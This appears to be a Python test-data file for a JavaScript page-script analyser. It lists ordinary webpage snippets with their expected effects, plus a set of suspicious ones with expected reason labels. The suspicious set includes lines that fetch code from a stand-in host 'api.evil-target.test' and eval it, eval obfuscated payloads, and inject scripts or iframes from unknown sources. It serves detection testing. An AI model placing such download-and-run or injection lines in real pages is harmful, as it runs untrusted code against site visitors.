"""Scripts of ordinary pages, one a line, and what they do: nothing, or what they openly say. `~`: only after a click."""

BENIGN = [
    # Frame busters, https, www, own pages.
    ("if (top != self) top.location = self.location", ""),
    ("if (window.top !== window.self) { window.top.location.href = window.self.location.href }", ""),
    ("if (parent.frames.length > 0) parent.location.href = location.href", ""),
    ("if (location.protocol != 'https:') location.href = 'https:' + location.href.substring(location.protocol.length)", ""),
    ("if (location.protocol == 'http:') location.replace(location.href.replace('http:', 'https:'))", ""),
    ("if (document.location.protocol === 'http:') document.location = document.URL.replace(/^http:/i, 'https:')", ""),
    ("window.location.href = 'https://' + window.location.host + window.location.pathname", ""),
    ("location.href = location.protocol + '//' + location.host + '/vi/trang-chu'", "navigate /vi/trang-chu"),
    ("location.href = location.origin + '/web/guest/home'", "navigate /web/guest/home"),
    ("if (location.hostname.indexOf('www.') != 0) location = '//www.' + location.hostname + '/'", ""),
    ("if (/Mobi/.test(navigator.userAgent)) location.href = '//m.' + location.host", ""),
    ("location.href = location.pathname + '?lang=en'", ""),
    ("location.href = location.href.split('?')[0] + '?lang=en'", ""),
    ("location.href = '/vi/'", "navigate /vi/"),
    ("location.replace('Default.aspx')", "navigate Default.aspx"),
    ("location.hash = '#top'", ""),
    ("location.search = '?page=2'", ""),
    ("window.location.reload(true)", ""),
    ("setTimeout(function () { location.reload() }, 300000)", ""),
    ("setTimeout('window.location.reload()', 60000)", ""),
    ("window.location = window.location", ""),
    ("history.back()", ""),
    ("if (document.referrer) location.href = document.referrer", ""),
    ("var u = new URL(location.href); u.searchParams.set('lang', 'vi'); location.href = u.toString()", ""),
    ("location.href = window.location.href.replace('/vi/', '/en/')", ""),
    # Menus, share buttons, print, language: all after a click, most on what the page itself holds.
    ("document.getElementById('links').onchange = function () { window.open(this.value) }", ""),
    ("$('#weblink').change(function () { window.open($(this).val(), '_blank') })", ""),
    ("function goTo(sel) { var u = sel.options[sel.selectedIndex].value; if (u) window.open(u) }", ""),
    ('function MM_jumpMenu(targ, selObj, restore) { eval(targ + ".location=\'" + selObj.options[selObj.selectedIndex].value + "\'"); }', ""),
    ("$('.menu a').click(function (e) { e.preventDefault(); location.href = $(this).attr('href') })", ""),
    ("document.querySelectorAll('tr').forEach(r => r.addEventListener('click', () => { location = r.dataset.href }))", ""),
    (
        "function share() { window.open('https://www.facebook.com/sharer/sharer.php?u=' + encodeURIComponent(location.href), 'w', 'width=600') }",
        "~popup https://www.facebook.com/sharer/sharer.php?u=",
    ),
    ("function zalo() { window.open('https://zalo.me/share?u=' + document.URL) }", "~popup https://zalo.me/share?u="),
    ("$('.print').on('click', function () { window.print() })", ""),
    ("function setLang(l) { document.cookie = 'lang=' + l; location.reload() }", ""),
    ("document.addEventListener('click', function (e) { if (!menu.contains(e.target)) menu.classList.remove('open') })", ""),
    ("$(document).on('click', '.page-link', function () { location.href = '?page=' + $(this).data('page') })", "~navigate ?page="),
    ("document.addEventListener('click', e => { var a = e.target.closest('a'); if (a && a.href) window.open(a.href) })", ""),
    # Sign-in that sends a form by itself; consent; a worker of one's own.
    ("document.forms[0].submit()", ""),
    ("window.onload = function () { document.getElementById('samlform').submit() }", ""),
    ("$('form').submit(function (e) { e.preventDefault(); $.post('/api/login', $(this).serialize(), function (r) { location.href = r.url }) })", ""),
    ("$.ajax({url: '/api/x', success: function (d) { $('#a').html(d); window.location.href = d.next }})", ""),
    ("fetch('/api').then(r => r.json()).then(j => { location = j.url })", ""),
    ("if (!localStorage.getItem('consent')) document.getElementById('bar').style.display = 'block'", ""),
    ("if ('serviceWorker' in navigator) navigator.serviceWorker.register('/sw.js', {scope: '/'})", "worker /sw.js"),
    # Measuring, chat, maps, captcha: scripts of others, as their owners say to put them in.
    (
        "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],"
        "j=d.createElement(s),"
        "dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})"
        "(window,document,'script','dataLayer','GTM-ABCDE');",
        "script https://www.googletagmanager.com/gtm.js?id=",
    ),
    ("window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-1234');", ""),
    (
        "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();"
        "a=s.createElement(o),"
        "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script',"
        "'//www.google-analytics.com/analytics.js','ga');"
        "ga('create','UA-1-1','auto');ga('send','pageview');",
        "script //www.google-analytics.com/analytics.js",
    ),
    (
        "var _gaq = _gaq || []; _gaq.push(['_setAccount', 'UA-1-1']); (function() { var ga = document.createElement('script');"
        " ga.type = 'text/javascript'; ga.async = true;"
        "ga.src = ('https:' == document.location.protocol ? 'https://ssl' : 'http://www') + '.google-analytics.com/ga.js';"
        "var s = document.getElementsByTagName('script')[0]; s.parentNode.insertBefore(ga, s); })();",
        "script https://ssl.google-analytics.com/ga.js\nscript http://www.google-analytics.com/ga.js",
    ),
    (
        "var gaJsHost = (('https:' == document.location.protocol) ? 'https://ssl.' : 'http://www.');"
        ' document.write(unescape("%3Cscript src=\'" + gaJsHost + '
        "\"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));",
        "write <script src='https://ssl.google-analytics.com/ga.js' type='text/javascript'></script>\n"
        "write <script src='http://www.google-analytics.com/ga.js' type='text/javascript'></script>",
    ),
    (
        "(function(d, s, id) {var js, fjs = d.getElementsByTagName(s)[0]; if (d.getElementById(id)) return; js = d.createElement(s); js.id = id;"
        "js.src = 'https://connect.facebook.net/vi_VN/sdk.js#xfbml=1'; fjs.parentNode.insertBefore(js, fjs);}(document, 'script', 'facebook-jssdk'));",
        "script https://connect.facebook.net/vi_VN/sdk.js#xfbml=1",
    ),
    (
        "!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};"
        "if(!f._fbq)f._fbq=n;n.push=n;"
        "n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}"
        "(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1');",
        "script https://connect.facebook.net/en_US/fbevents.js",
    ),
    (
        "(function(){var w=window,d=document;var s=d.createElement('script');s.src='https://sp.zalo.me/plugins/sdk.js';d.body.appendChild(s)})()",
        "script https://sp.zalo.me/plugins/sdk.js",
    ),
    (
        "var Tawk_API=Tawk_API||{}, Tawk_LoadStart=new Date();(function(){var s1=document.createElement('script'),"
        "s0=document.getElementsByTagName('script')[0];s1.async=true;"
        "s1.src='https://embed.tawk.to/abc/default';s1.charset='UTF-8';s1.setAttribute('crossorigin','*');s0.parentNode.insertBefore(s1,s0);})();",
        "script https://embed.tawk.to/abc/default",
    ),
    (
        "(function(){var w=window,C='___grecaptcha_cfg',cfg=w[C]=w[C]||{},N='grecaptcha';var gr=w[N]=w[N]||{};"
        "gr.ready=gr.ready||function(f){(cfg['fns']=cfg['fns']||[]).push(f);};"
        "var d=document,po=d.createElement('script');po.type='text/javascript';po.async=true;"
        "po.src='https://www.gstatic.com/recaptcha/releases/abc/recaptcha__vi.js';"
        "var e=d.querySelector('script[nonce]'),n=e&&(e['nonce']||e.getAttribute('nonce'));if(n){po.setAttribute('nonce',n);}"
        "var s=d.getElementsByTagName('script')[0];s.parentNode.insertBefore(po,s);})();",
        "script https://www.gstatic.com/recaptcha/releases/abc/recaptcha__vi.js",
    ),
    (
        "function loadMap() { var s = document.createElement('script'); s.src = 'https://maps.googleapis.com/maps/api/js?key=K&callback=initMap';"
        " document.body.appendChild(s) }"
        "window.onload = loadMap",
        "script https://maps.googleapis.com/maps/api/js?key=K&callback=initMap",
    ),
    (
        "var tag = document.createElement('script'); tag.src = 'https://www.youtube.com/iframe_api'; var f = document.getElementsByTagName('script')[0];"
        "f.parentNode.insertBefore(tag, f)",
        "script https://www.youtube.com/iframe_api",
    ),
    ("window.jQuery || document.write('<script src=\"/js/jquery.min.js\"><\\/script>')", 'write <script src="/js/jquery.min.js"></script>'),
    # Old pages' own writing.
    ("document.write(new Date().getFullYear())", ""),
    ("document.write('Hôm nay: ' + new Date().toLocaleDateString('vi-VN'))", ""),
    ("document.write('<b>' + document.title + '</b>')", "write <b></b>"),
    ("var days = ['Chủ nhật', 'Thứ hai']; var d = new Date(); document.write(days[d.getDay()] + ', ' + d.getDate())", ""),
    ("document.write('<a href=\"mai' + 'lto:' + 'vanthu' + '@' + 'xa.gov.test\">Thư</a>')", 'write <a href="mailto:vanthu@xa.gov.test">Thư</a>'),
    (
        "document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,109,97,105,108,116,111,58,97,64,98,34,62,97,60,47,97,62))",
        'write <a href="mailto:a@b">a</a>',
    ),
    # Data, templates, settings.
    ("$.get('/data.txt', function (t) { var d = eval('(' + t + ')'); show(d) })", ""),
    ('var cfg = JSON.parse(\'{"a": [1, 2], "u": "https://api.other.test/"}\'); init(cfg)', ""),
    ("var tpl = '<div class=\"x\">' + name + '</div>'; document.getElementById('a').innerHTML = tpl", ""),
    ("WebFont.load({google: {families: ['Roboto']}})", ""),
    ("$('.slider').slick({dots: true}); $('[data-toggle=tooltip]').tooltip()", ""),
    ("new Swiper('.swiper', {autoplay: {delay: 3000}})", ""),
    ("var x = atob('SGVsbG8='); console.log(x)", ""),
    ("setInterval(function () { $('#clock').text(new Date().toLocaleTimeString()) }, 1000)", ""),
    ("window.addEventListener('message', function (e) { if (e.data.url) location.href = e.data.url })", ""),
    ('window._wpemojiSettings = {"source": {"concatemoji": "/wp-includes/js/wp-emoji-release.min.js"}};', ""),
    ("(function(){'use strict'; var u = 'https://cdn.other.test/a.js'; var list = [u]; })()", ""),
]

# What cannot be known, and must not pass as clean: the start of the reason that is told.
UNKNOWN = [
    ("location = target", "navigate: target"),
    ("location.href = getTarget()", "navigate: getTarget()"),
    ("location.replace(config.redirect)", "navigate: config.redirect"),
    ("location = atob(document.getElementById('x').innerHTML)", "navigate: atob()"),
    ("eval(document.getElementById('x').value + atob(payload))", "eval"),
    ("eval(payload)", "eval: payload"),
    ("new Function(payload)()", "Function: payload"),
    ("setTimeout(atob(payload), 100)", "timer: atob()"),
    ("document.write(payload)", "write: payload"),
    ("document.write(unescape(payload))", "write: unescape()"),
    ("document.write('<script src=\"' + host + '/a.js\"></script>')", "write: host"),
    ("document.write('<iframe src=\"' + unescape(p) + '\">')", "write: unescape()"),
    ("var s = document.createElement('script'); s.src = loader; document.head.appendChild(s)", "script: loader"),
    ("var s = document.createElement('script'); s.src = '//' + host + '/x.js'; document.head.appendChild(s)", "script: host"),
    ("var s = document.createElement('script'); s.text = code; document.head.appendChild(s)", "script text: code"),
    ("var i = document.createElement('iframe'); i.src = unescape(q); document.body.appendChild(i)", "frame: unescape()"),
    ("fetch('https://api.evil-target.test/t').then(r => r.text()).then(u => { location = u })", "navigate: answer of https://api.evil-target.test/t"),
    ("fetch('https://api.evil-target.test/t').then(r => r.text()).then(eval)", "eval: answer of https://api.evil-target.test/t"),
    ("$.get('https://api.evil-target.test/t', function (c) { eval(c) })", "eval: argument of ajax"),
    (
        "var x = new XMLHttpRequest(); x.open('GET', 'https://api.evil-target.test/t'); x.onload = function () { eval(x.responseText) }; x.send()",
        "eval: answer of https://api.evil-target.test/t",
    ),
    ("location = localStorage.getItem('u')", "navigate: stored u"),
    ("import(plugin)", "script: plugin"),
    ("window.open(popupUrl)", "popup: popupUrl"),
    ("navigator.serviceWorker.register(worker)", "worker: worker"),
    ("for (;;) { } location = 1", "bound: steps"),
    ("var s = 'a'; while (true) s += s; eval(s)", "bound: text"),
    ("eval(\"eval('eval(\\\"eval(1)\\\")')\"); function f(s) { eval(s) } var c = 'eval(c)'; eval(c)", "bound: rounds of unpacking"),
    ("(function f(n) { f(n + 1) })(0); location = undefinedTarget", "navigate: undefinedTarget"),
]
